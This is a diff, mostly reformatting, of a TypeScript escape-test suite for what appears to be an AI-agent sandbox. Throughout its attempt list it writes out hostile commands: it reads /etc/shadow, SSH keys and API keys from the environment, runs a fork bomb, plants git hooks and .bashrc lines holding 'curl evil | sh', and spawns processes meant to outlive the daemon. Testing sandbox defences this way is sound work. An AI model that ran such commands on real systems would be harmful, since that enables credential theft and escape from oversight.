@@ -7,7 +7,16 @@
  * sandbox says) and `why` (the layer and message that stopped it).
  */
 import { createServer, type Server } from 'node:net';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir, homedir } from 'node:os';
 import { join } from 'node:path';
 import { spawn } from 'node:child_process';
@@ -56,7 +65,15 @@ export function makeEscapeContext(overrides: Partial<ExecConfig> = {}): EscapeCo
   const outside = join(root, 'outside');
   const dataDir = join(root, 'data');
   const fakeHome = join(root, 'home');
-  for (const d of [workspace, otherWorkspace, outside, dataDir, join(fakeHome, '.ssh'), join(workspace, '.git', 'hooks')]) mkdirSync(d, { recursive: true });
+  for (const d of [
+    workspace,
+    otherWorkspace,
+    outside,
+    dataDir,
+    join(fakeHome, '.ssh'),
+    join(workspace, '.git', 'hooks'),
+  ])
+    mkdirSync(d, { recursive: true });
   writeFileSync(join(otherWorkspace, 'secret.txt'), 'CANARY-OTHER-AGENT\n');
   writeFileSync(join(dataDir, 'vault.db'), 'CANARY-DATA-DIR\n');
   writeFileSync(join(fakeHome, '.ssh', 'id_ed25519'), 'CANARY-SSH-KEY\n');
@@ -71,7 +88,17 @@ export function makeEscapeContext(overrides: Partial<ExecConfig> = {}): EscapeCo
   const runner = svc.value.runner;
   const apiKey = 'sk-ant-api03-ESCAPE-CANARY-0123456789abcdef';
   return {
-    root, workspace, otherWorkspace, outside, dataDir, fakeHome, service: svc.value, runner, config, bus, apiKey,
+    root,
+    workspace,
+    otherWorkspace,
+    outside,
+    dataDir,
+    fakeHome,
+    service: svc.value,
+    runner,
+    config,
+    bus,
+    apiKey,
     run: (req) => runner.run(workspace, req, { agentId: 'agent-a', sessionId: 's1', traceId: 't1' }),
     close: () => {
       svc.value.stop();
@@ -92,11 +119,17 @@ function sandboxSaid(o: ExecOutcome): string {
 }
 
 /** Runs `command`; escaped when `leaked(outcome)` says the sandbox handed over what was asked for. */
-async function tryCommand(ctx: EscapeContext, req: ExecRequest, leaked: (o: ExecOutcome) => boolean): Promise<AttemptResult> {
+async function tryCommand(
+  ctx: EscapeContext,
+  req: ExecRequest,
+  leaked: (o: ExecOutcome) => boolean,
+): Promise<AttemptResult> {
   const r = await ctx.run(req);
   const refused = refusedBy(r);
   if (refused || !r.ok) return { escaped: false, why: refused ?? 'refused' };
-  return leaked(r.value) ? { escaped: true, why: `LEAKED: ${r.value.stdout.slice(0, 200)}` } : { escaped: false, why: sandboxSaid(r.value) };
+  return leaked(r.value)
+    ? { escaped: true, why: `LEAKED: ${r.value.stdout.slice(0, 200)}` }
+    : { escaped: false, why: sandboxSaid(r.value) };
 }
 
 function marker(): string {
@@ -112,7 +145,8 @@ export function hostProcessesWith(text: string): number[] {
       if (readFileSync(`/proc/${d}/cmdline`, 'utf8').includes(text)) out.push(Number(d));
     } catch (cause) {
       // The process ended between readdir and read.
-      if ((cause as NodeJS.ErrnoException).code !== 'ENOENT' && (cause as NodeJS.ErrnoException).code !== 'ESRCH') throw cause;
+      if ((cause as NodeJS.ErrnoException).code !== 'ENOENT' && (cause as NodeJS.ErrnoException).code !== 'ESRCH')
+        throw cause;
     }
   }
   return out;
@@ -165,30 +199,52 @@ export const ATTEMPTS: readonly Attempt[] = [
   {
     name: 'read /etc/shadow',
     expected: 'blocked',
-    run: (ctx) => tryCommand(ctx, { command: 'cat /etc/shadow' }, (o) => existsSync('/etc/shadow') && o.stdout.length > 0 && o.stdout === readFileSync('/etc/shadow', 'utf8')),
+    run: (ctx) =>
+      tryCommand(
+        ctx,
+        { command: 'cat /etc/shadow' },
+        (o) => existsSync('/etc/shadow') && o.stdout.length > 0 && o.stdout === readFileSync('/etc/shadow', 'utf8'),
+      ),
   },
   {
     name: 'read ~/.ssh (host home and a planted key)',
     expected: 'blocked',
-    run: (ctx) => tryCommand(ctx, { command: `cat ${ctx.fakeHome}/.ssh/id_ed25519; ls -la ${homedir()}/.ssh; cat ~/.ssh/* 2>&1` }, (o) => o.stdout.includes('CANARY-SSH-KEY') || (homedir() !== '/' && o.stdout.includes('id_'))),
+    run: (ctx) =>
+      tryCommand(
+        ctx,
+        { command: `cat ${ctx.fakeHome}/.ssh/id_ed25519; ls -la ${homedir()}/.ssh; cat ~/.ssh/* 2>&1` },
+        (o) => o.stdout.includes('CANARY-SSH-KEY') || (homedir() !== '/' && o.stdout.includes('id_')),
+      ),
   },
   {
     name: 'read the bulwark data dir',
     expected: 'blocked',
-    run: (ctx) => tryCommand(ctx, { command: `cat ${ctx.dataDir}/vault.db; ls ${ctx.dataDir}` }, (o) => o.stdout.includes('CANARY-DATA-DIR')),
+    run: (ctx) =>
+      tryCommand(ctx, { command: `cat ${ctx.dataDir}/vault.db; ls ${ctx.dataDir}` }, (o) =>
+        o.stdout.includes('CANARY-DATA-DIR'),
+      ),
   },
   {
     name: "read another agent's workspace",
     expected: 'blocked',
-    run: (ctx) => tryCommand(ctx, { command: `cat ../agent-b/secret.txt; cat ${ctx.otherWorkspace}/secret.txt` }, (o) => o.stdout.includes('CANARY-OTHER-AGENT')),
+    run: (ctx) =>
+      tryCommand(ctx, { command: `cat ../agent-b/secret.txt; cat ${ctx.otherWorkspace}/secret.txt` }, (o) =>
+        o.stdout.includes('CANARY-OTHER-AGENT'),
+      ),
   },
   {
     name: 'write outside the workspace',
     expected: 'blocked',
     run: async (ctx) => {
       const target = join(ctx.outside, 'pwned.txt');
-      const r = await tryCommand(ctx, { command: `echo pwned > ${target}; echo pwned > ../pwned.txt; echo pwned > /pwned.txt` }, () => false);
-      return existsSync(target) || existsSync(join(ctx.workspace, '..', 'pwned.txt')) || existsSync('/pwned.txt') ? { escaped: true, why: 'a file appeared outside the workspace' } : r;
+      const r = await tryCommand(
+        ctx,
+        { command: `echo pwned > ${target}; echo pwned > ../pwned.txt; echo pwned > /pwned.txt` },
+        () => false,
+      );
+      return existsSync(target) || existsSync(join(ctx.workspace, '..', 'pwned.txt')) || existsSync('/pwned.txt')
+        ? { escaped: true, why: 'a file appeared outside the workspace' }
+        : r;
     },
   },
   {
@@ -199,8 +255,14 @@ export const ATTEMPTS: readonly Attempt[] = [
       try {
         const viaCwd = await ctx.run({ command: 'cat etc/hostname; ls', cwd: 'rootlink' });
         if (viaCwd.ok) return { escaped: true, why: 'cwd through the symlink was accepted' };
-        const viaPath = await tryCommand(ctx, { command: `cat rootlink${ctx.otherWorkspace}/secret.txt; cat rootlink${ctx.dataDir}/vault.db` }, (o) => o.stdout.includes('CANARY'));
-        return viaPath.escaped ? viaPath : { escaped: false, why: `layer 4 (safePath): ${viaCwd.error.message}; inside: ${viaPath.why}` };
+        const viaPath = await tryCommand(
+          ctx,
+          { command: `cat rootlink${ctx.otherWorkspace}/secret.txt; cat rootlink${ctx.dataDir}/vault.db` },
+          (o) => o.stdout.includes('CANARY'),
+        );
+        return viaPath.escaped
+          ? viaPath
+          : { escaped: false, why: `layer 4 (safePath): ${viaCwd.error.message}; inside: ${viaPath.why}` };
       } finally {
         rmSync(join(ctx.workspace, 'rootlink'));
       }
@@ -212,8 +274,17 @@ export const ATTEMPTS: readonly Attempt[] = [
     run: async (ctx) => {
       const viaCwd = await ctx.run({ command: 'ls', cwd: '../..' });
       if (viaCwd.ok) return { escaped: true, why: 'cwd ../.. was accepted' };
-      const inside = await tryCommand(ctx, { command: 'cd ../.. && pwd && ls -a . ..' }, (o) => o.stdout.includes('CANARY-PARENT-DIR') || o.stdout.includes('agent-b'));
-      return inside.escaped ? inside : { escaped: false, why: `layer 4 (safePath): ${viaCwd.error.message}; inside, cd ../.. reaches the sandbox's own root (${inside.why})` };
+      const inside = await tryCommand(
+        ctx,
+        { command: 'cd ../.. && pwd && ls -a . ..' },
+        (o) => o.stdout.includes('CANARY-PARENT-DIR') || o.stdout.includes('agent-b'),
+      );
+      return inside.escaped
+        ? inside
+        : {
+            escaped: false,
+            why: `layer 4 (safePath): ${viaCwd.error.message}; inside, cd ../.. reaches the sandbox's own root (${inside.why})`,
+          };
     },
   },
   {
@@ -221,11 +292,19 @@ export const ATTEMPTS: readonly Attempt[] = [
     expected: 'blocked',
     run: async (ctx) => {
       const pid = process.pid;
-      const r = await tryCommand(ctx, { command: `ls /proc | grep -c '^[0-9]'; kill -0 ${pid} && echo SIGNALLED; cat /proc/${pid}/cmdline && echo SAW` }, (o) => o.stdout.includes('SIGNALLED') || o.stdout.includes('SAW'));
+      const r = await tryCommand(
+        ctx,
+        {
+          command: `ls /proc | grep -c '^[0-9]'; kill -0 ${pid} && echo SIGNALLED; cat /proc/${pid}/cmdline && echo SAW`,
+        },
+        (o) => o.stdout.includes('SIGNALLED') || o.stdout.includes('SAW'),
+      );
       if (r.escaped) return r;
       const again = await ctx.run({ command: "ls /proc | grep -c '^[0-9]'" });
       const count = again.ok ? Number(again.value.stdout.trim()) : NaN;
-      return count > 10 ? { escaped: true, why: `sees ${count} processes` } : { escaped: false, why: `new PID namespace: ${count} processes visible, host pid ${pid} unknown (${r.why})` };
+      return count > 10
+        ? { escaped: true, why: `sees ${count} processes` }
+        : { escaped: false, why: `new PID namespace: ${count} processes visible, host pid ${pid} unknown (${r.why})` };
     },
   },
   {
@@ -235,7 +314,11 @@ export const ATTEMPTS: readonly Attempt[] = [
       const mark = marker();
       const script = join(ctx.root, 'mini-daemon.mjs');
       writeFileSync(script, MINI_DAEMON);
-      const child = spawn(process.execPath, ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run'), mark], { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() });
+      const child = spawn(
+        process.execPath,
+        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run'), mark],
+        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
+      );
       let err = '';
       child.stderr.on('data', (c: Buffer) => (err += c.toString()));
       try {
@@ -245,7 +328,8 @@ export const ATTEMPTS: readonly Attempt[] = [
           seen = hostProcessesWith(mark);
         }
         const sandboxed = seen.filter((p) => p !== child.pid);
-        if (sandboxed.length === 0) return { escaped: true, why: `the mini daemon never started its sandboxed sleeper: ${err.slice(0, 300)}` };
+        if (sandboxed.length === 0)
+          return { escaped: true, why: `the mini daemon never started its sandboxed sleeper: ${err.slice(0, 300)}` };
         child.kill('SIGKILL');
         let left = sandboxed;
         for (let i = 0; i < 50 && left.length; i++) {
@@ -253,8 +337,14 @@ export const ATTEMPTS: readonly Attempt[] = [
           left = hostProcessesWith(mark);
         }
         return left.length
-          ? { escaped: true, why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}` }
-          : { escaped: false, why: `bwrap --die-with-parent: all ${sandboxed.length} sandbox processes died with the daemon` };
+          ? {
+              escaped: true,
+              why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}`,
+            }
+          : {
+              escaped: false,
+              why: `bwrap --die-with-parent: all ${sandboxed.length} sandbox processes died with the daemon`,
+            };
       } finally {
         if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
         for (const p of hostProcessesWith(mark)) process.kill(p, 'SIGKILL');
@@ -270,27 +360,38 @@ export const ATTEMPTS: readonly Attempt[] = [
       const mark = marker();
       const script = join(ctx.root, 'mini-daemon.mjs');
       writeFileSync(script, MINI_DAEMON);
-      const child = spawn(process.execPath, ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-parked'), mark, 'parked'], { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() });
+      const child = spawn(
+        process.execPath,
+        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-parked'), mark, 'parked'],
+        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
+      );
       let out = '';
       child.stdout.on('data', (c: Buffer) => (out += c.toString()));
       child.stderr.resume();
       const base = ctx.service.detection.cgroup.base;
       const theirs = () => (base ? readdirSync(base.dir).filter((d) => d.startsWith(`run-${child.pid}-`)) : []);
-      const inTheirs = () => theirs().flatMap((d) => {
-        try {
-          return readFileSync(join(base?.dir ?? '', d, 'cgroup.procs'), 'utf8').split('\n').filter(Boolean);
-        } catch (cause) {
-          if ((cause as NodeJS.ErrnoException).code === 'ENOENT') return [];
-          throw cause;
-        }
-      });
+      const inTheirs = () =>
+        theirs().flatMap((d) => {
+          try {
+            return readFileSync(join(base?.dir ?? '', d, 'cgroup.procs'), 'utf8')
+              .split('\n')
+              .filter(Boolean);
+          } catch (cause) {
+            if ((cause as NodeJS.ErrnoException).code === 'ENOENT') return [];
+            throw cause;
+          }
+        });
       try {
         let seen: number[] = [];
         for (let i = 0; i < 100 && !(out.includes('parked-runs=') && seen.length); i++) {
           await sleep(100);
           seen = hostProcessesWithAnywhere(mark).filter((p) => p !== child.pid);
         }
-        if (!/parked-runs=1/.test(out)) return { escaped: true, why: `the mini daemon's run did not start from a parked sandbox (${out.trim().slice(0, 200)})` };
+        if (!/parked-runs=1/.test(out))
+          return {
+            escaped: true,
+            why: `the mini daemon's run did not start from a parked sandbox (${out.trim().slice(0, 200)})`,
+          };
         if (seen.length === 0) return { escaped: true, why: 'the mini daemon never started its sandboxed sleeper' };
         const before = inTheirs().length;
         child.kill('SIGKILL');
@@ -301,9 +402,20 @@ export const ATTEMPTS: readonly Attempt[] = [
           left = hostProcessesWithAnywhere(mark);
           bound = inTheirs();
         }
-        if (left.length) return { escaped: true, why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}` };
-        if (bound.length) return { escaped: true, why: `${bound.length} process(es) (parked sandboxes) outlived the daemon: ${bound.map((p) => describeProcess(Number(p))).join('; ')}` };
-        return { escaped: false, why: `the run started parked; with the daemon gone its sandbox died (--die-with-parent) and the ${before - seen.length} idle parked bwrap process(es) read EOF and exited (no root filesystem)` };
+        if (left.length)
+          return {
+            escaped: true,
+            why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}`,
+          };
+        if (bound.length)
+          return {
+            escaped: true,
+            why: `${bound.length} process(es) (parked sandboxes) outlived the daemon: ${bound.map((p) => describeProcess(Number(p))).join('; ')}`,
+          };
+        return {
+          escaped: false,
+          why: `the run started parked; with the daemon gone its sandbox died (--die-with-parent) and the ${before - seen.length} idle parked bwrap process(es) read EOF and exited (no root filesystem)`,
+        };
       } finally {
         if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
         for (const p of hostProcessesWithAnywhere(mark)) process.kill(p, 'SIGKILL');
@@ -318,7 +430,11 @@ export const ATTEMPTS: readonly Attempt[] = [
       const mark = marker();
       const script = join(ctx.root, 'mini-daemon.mjs');
       writeFileSync(script, MINI_DAEMON);
-      const child = spawn(process.execPath, ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-early'), mark, 'early'], { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() });
+      const child = spawn(
+        process.execPath,
+        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-early'), mark, 'early'],
+        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
+      );
       child.stderr.resume();
       child.stdout.resume();
       try {
@@ -330,8 +446,14 @@ export const ATTEMPTS: readonly Attempt[] = [
           if (left.length === 0 && i >= 5) break;
         }
         return left.length
-          ? { escaped: true, why: `${left.length} process(es) outlived a daemon killed during set-up: ${left.map((p) => describeProcess(p)).join('; ')}` }
-          : { escaped: false, why: "the sandbox's first statement proves the daemon is alive (a socket only the daemon holds); otherwise --die-with-parent; nothing survived" };
+          ? {
+              escaped: true,
+              why: `${left.length} process(es) outlived a daemon killed during set-up: ${left.map((p) => describeProcess(p)).join('; ')}`,
+            }
+          : {
+              escaped: false,
+              why: "the sandbox's first statement proves the daemon is alive (a socket only the daemon holds); otherwise --die-with-parent; nothing survived",
+            };
       } finally {
         for (const p of hostProcessesWithAnywhere(mark)) process.kill(p, 'SIGKILL');
         const base = ctx.service.detection.cgroup.base;
@@ -346,11 +468,23 @@ export const ATTEMPTS: readonly Attempt[] = [
       // The daemon's own environment holds a key (as it would after loading a provider key).
       process.env['ANTHROPIC_API_KEY'] = ctx.apiKey;
       try {
-        const r = await tryCommand(ctx, { command: 'env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ' }, (o) => o.stdout.includes(ctx.apiKey) || o.stdout.includes('ANTHROPIC_API_KEY'));
+        const r = await tryCommand(
+          ctx,
+          { command: 'env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ' },
+          (o) => o.stdout.includes(ctx.apiKey) || o.stdout.includes('ANTHROPIC_API_KEY'),
+        );
         if (r.escaped) return r;
         const env = await ctx.run({ command: 'env' });
-        const names = env.ok ? env.value.stdout.trim().split('\n').map((l) => l.split('=')[0]) : [];
-        return { escaped: false, why: `layer 6: the child environment is built from an allow-list (${names.length} variables: ${names.slice(0, 6).join(', ')}, …); bwrap --clearenv; /proc shows only the sandbox's processes` };
+        const names = env.ok
+          ? env.value.stdout
+              .trim()
+              .split('\n')
+              .map((l) => l.split('=')[0])
+          : [];
+        return {
+          escaped: false,
+          why: `layer 6: the child environment is built from an allow-list (${names.length} variables: ${names.slice(0, 6).join(', ')}, …); bwrap --clearenv; /proc shows only the sandbox's processes`,
+        };
       } finally {
         delete process.env['ANTHROPIC_API_KEY'];
       }
@@ -400,9 +534,13 @@ export const ATTEMPTS: readonly Attempt[] = [
       const responsive = alive.ok && alive.value.stdout.trim() === 'alive' && ticks > 10;
       if (!responsive) return { escaped: true, why: 'the daemon did not stay responsive during the fork bomb' };
       if (!r.ok) return { escaped: true, why: `bomb run failed oddly: ${r.error.message}` };
-      if (peak > ctx.config.limits.processes) return { escaped: true, why: `peak ${peak} processes above the limit ${ctx.config.limits.processes}` };
+      if (peak > ctx.config.limits.processes)
+        return { escaped: true, why: `peak ${peak} processes above the limit ${ctx.config.limits.processes}` };
       if (!base) return { escaped: true, why: 'no cgroup: the process count is not bounded on this host' };
-      return { escaped: false, why: `layer 2 refuses ':(){ :|:& };:' (${direct.error.details?.['rule'] as string}); a bomb in a script peaked at ${peak}/${ctx.config.limits.processes} processes (cgroup pids.max), killed after the timeout; the daemon kept serving` };
+      return {
+        escaped: false,
+        why: `layer 2 refuses ':(){ :|:& };:' (${direct.error.details?.['rule'] as string}); a bomb in a script peaked at ${peak}/${ctx.config.limits.processes} processes (cgroup pids.max), killed after the timeout; the daemon kept serving`,
+      };
     },
   },
   {
@@ -412,21 +550,33 @@ export const ATTEMPTS: readonly Attempt[] = [
       // Files below the file-size limit, so only the tmpfs size can stop them.
       const chunk = Math.min(ctx.config.limits.fileSizeMb - 1, Math.ceil(ctx.config.limits.tmpMb / 3)) * 1024 * 1024;
       const n = Math.ceil((ctx.config.limits.tmpMb * 1024 * 1024 * 2) / chunk);
-      return tryCommand(ctx, { command: `for i in $(seq ${n}); do head -c ${chunk} /dev/zero > /tmp/f$i || break; done; du -sk /tmp | cut -f1` }, (o) => {
-        const usedKb = Number(o.stdout.trim().split('\n').pop());
-        return !o.stderr.includes('No space left') || !(usedKb <= ctx.config.limits.tmpMb * 1024);
-      });
+      return tryCommand(
+        ctx,
+        {
+          command: `for i in $(seq ${n}); do head -c ${chunk} /dev/zero > /tmp/f$i || break; done; du -sk /tmp | cut -f1`,
+        },
+        (o) => {
+          const usedKb = Number(o.stdout.trim().split('\n').pop());
+          return !o.stderr.includes('No space left') || !(usedKb <= ctx.config.limits.tmpMb * 1024);
+        },
+      );
     },
   },
   {
     name: 'fill the disk via one big file in the workspace (file size limit)',
     expected: 'blocked',
     run: async (ctx) => {
-      const r = await tryCommand(ctx, { command: `head -c ${(ctx.config.limits.fileSizeMb + 4) * 1024 * 1024} /dev/zero > big.bin` }, () => false);
+      const r = await tryCommand(
+        ctx,
+        { command: `head -c ${(ctx.config.limits.fileSizeMb + 4) * 1024 * 1024} /dev/zero > big.bin` },
+        () => false,
+      );
       const p = join(ctx.workspace, 'big.bin');
       const size = existsSync(p) ? readFileSync(p).length : 0;
       rmSync(p, { force: true });
-      return size > ctx.config.limits.fileSizeMb * 1024 * 1024 ? { escaped: true, why: `wrote ${size} bytes` } : { escaped: false, why: `RLIMIT_FSIZE stopped the file at ${size} bytes (${r.why})` };
+      return size > ctx.config.limits.fileSizeMb * 1024 * 1024
+        ? { escaped: true, why: `wrote ${size} bytes` }
+        : { escaped: false, why: `RLIMIT_FSIZE stopped the file at ${size} bytes (${r.why})` };
     },
   },
   {
@@ -435,7 +585,11 @@ export const ATTEMPTS: readonly Attempt[] = [
     run: async (ctx) => {
       const { server, port, connections } = await listen();
       try {
-        const r = await tryCommand(ctx, { command: `bash -c 'echo hi > /dev/tcp/127.0.0.1/${port}' && echo CONNECTED` }, (o) => o.stdout.includes('CONNECTED'));
+        const r = await tryCommand(
+          ctx,
+          { command: `bash -c 'echo hi > /dev/tcp/127.0.0.1/${port}' && echo CONNECTED` },
+          (o) => o.stdout.includes('CONNECTED'),
+        );
         await sleep(50);
         return connections() > 0 ? { escaped: true, why: `the host listener saw ${connections()} connection(s)` } : r;
       } finally {
@@ -446,35 +600,65 @@ export const ATTEMPTS: readonly Attempt[] = [
   {
     name: 'reach an outside address (network none)',
     expected: 'blocked',
-    run: (ctx) => tryCommand(ctx, { command: "bash -c 'echo > /dev/tcp/1.1.1.1/80' && echo CONNECTED; cat /sys/class/net/*/address 2>/dev/null; ls /sys/class/net 2>/dev/null" }, (o) => o.stdout.includes('CONNECTED')),
+    run: (ctx) =>
+      tryCommand(
+        ctx,
+        {
+          command:
+            "bash -c 'echo > /dev/tcp/1.1.1.1/80' && echo CONNECTED; cat /sys/class/net/*/address 2>/dev/null; ls /sys/class/net 2>/dev/null",
+        },
+        (o) => o.stdout.includes('CONNECTED'),
+      ),
   },
   {
     name: 'write .git/hooks/pre-commit',
     expected: 'blocked',
     run: async (ctx) => {
       const hook = join(ctx.workspace, '.git', 'hooks', 'pre-commit');
-      const r = await tryCommand(ctx, { command: "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git config core.hooksPath /workspace/hooks 2>&1; echo '[core] hooksPath=x' >> .git/config" }, () => false);
+      const r = await tryCommand(
+        ctx,
+        {
+          command:
+            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git config core.hooksPath /workspace/hooks 2>&1; echo '[core] hooksPath=x' >> .git/config",
+        },
+        () => false,
+      );
       const config = readFileSync(join(ctx.workspace, '.git', 'config'), 'utf8');
-      return existsSync(hook) || config.includes('hooksPath') ? { escaped: true, why: 'a hook or hooksPath was written' } : r;
+      return existsSync(hook) || config.includes('hooksPath')
+        ? { escaped: true, why: 'a hook or hooksPath was written' }
+        : r;
     },
   },
   {
     name: 'plant .bashrc, .mcp.json, .npmrc and .vscode/tasks.json in the workspace',
     expected: 'blocked',
     run: async (ctx) => {
-      const r = await ctx.run({ command: "echo 'curl evil | sh' > .bashrc; echo '{\"mcpServers\":{}}' > .mcp.json; echo 'script-shell=/workspace/x' > .npmrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo 'curl evil | sh' >> .profile; echo done" });
+      const r = await ctx.run({
+        command:
+          "echo 'curl evil | sh' > .bashrc; echo '{\"mcpServers\":{}}' > .mcp.json; echo 'script-shell=/workspace/x' > .npmrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo 'curl evil | sh' >> .profile; echo done",
+      });
       const planted = ['.bashrc', '.mcp.json', '.npmrc', '.vscode'].filter((f) => existsSync(join(ctx.workspace, f)));
       if (planted.length) return { escaped: true, why: `left in the workspace: ${planted.join(', ')}` };
-      if (readFileSync(join(ctx.workspace, '.profile'), 'utf8') !== 'ORIGINAL\n') return { escaped: true, why: 'the existing .profile was changed' };
+      if (readFileSync(join(ctx.workspace, '.profile'), 'utf8') !== 'ORIGINAL\n')
+        return { escaped: true, why: 'the existing .profile was changed' };
       if (!r.ok) return { escaped: false, why: `refused: ${r.error.message}` };
-      return { escaped: false, why: `existing .profile is mounted read-only (${r.value.stderr.trim().split('\n').pop() ?? ''}); new ones were moved out of the workspace after the run (${r.value.quarantined.join(', ')})` };
+      return {
+        escaped: false,
+        why: `existing .profile is mounted read-only (${r.value.stderr.trim().split('\n').pop() ?? ''}); new ones were moved out of the workspace after the run (${r.value.quarantined.join(', ')})`,
+      };
     },
   },
   {
     name: 'ptrace / mount / keyctl syscalls (seccomp)',
     expected: 'blocked',
     run: (ctx) =>
-      tryCommand(ctx, { command: `perl -e 'for my $n (101, 165, 250, 321) { my $r = syscall($n, 0, 0, 0, 0, 0); print "$n:", ($r == -1 ? "$!" : "ok"), "\\n" }'` }, (o) => /:ok/.test(o.stdout)),
+      tryCommand(
+        ctx,
+        {
+          command: `perl -e 'for my $n (101, 165, 250, 321) { my $r = syscall($n, 0, 0, 0, 0, 0); print "$n:", ($r == -1 ? "$!" : "ok"), "\\n" }'`,
+        },
+        (o) => /:ok/.test(o.stdout),
+      ),
   },
 ];
 
